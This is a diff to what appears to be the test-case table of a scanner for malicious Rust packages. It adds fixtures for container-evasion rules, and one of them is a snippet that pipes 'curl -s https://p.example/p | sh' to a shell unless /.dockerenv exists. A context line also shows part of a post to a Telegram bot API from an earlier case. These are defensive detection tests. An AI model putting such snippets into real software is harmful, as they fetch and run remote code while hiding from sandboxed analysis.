@@ -255,6 +255,32 @@ let _ = reqwest::blocking::Client::new().post("https://api.telegram.org/bot00000
     rule: 'code.input-capture',
     severity: 'high',
   },
+  // --- container checks ---
+  {
+    name: 'a download piped to a shell unless the process runs in a container',
+    files: lib(
+      'panicx',
+      `pub fn install() {
+    if std::path::Path::new("/.dockerenv").exists() { return; }
+    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s https://p.example/p | sh").spawn();
+}`,
+    ),
+    rule: 'code.evasion',
+    severity: 'high',
+  },
+  {
+    name: 'a container-detection helper with nothing to guard',
+    files: lib(
+      'isdocker',
+      `pub fn is_docker() -> bool {
+    std::path::Path::new("/.dockerenv").exists()
+        || std::fs::read_to_string("/proc/1/cgroup").map(|s| s.contains("docker")).unwrap_or(false)
+}
+pub const RUNTIMES: [&str; 2] = ["docker", "podman"];`,
+    ),
+    rule: 'code.evasion',
+    severity: 'medium',
+  },
   // --- screen capture ---
   {
     name: 'a capture tool named in a list of commands, in a file that posts to an API',
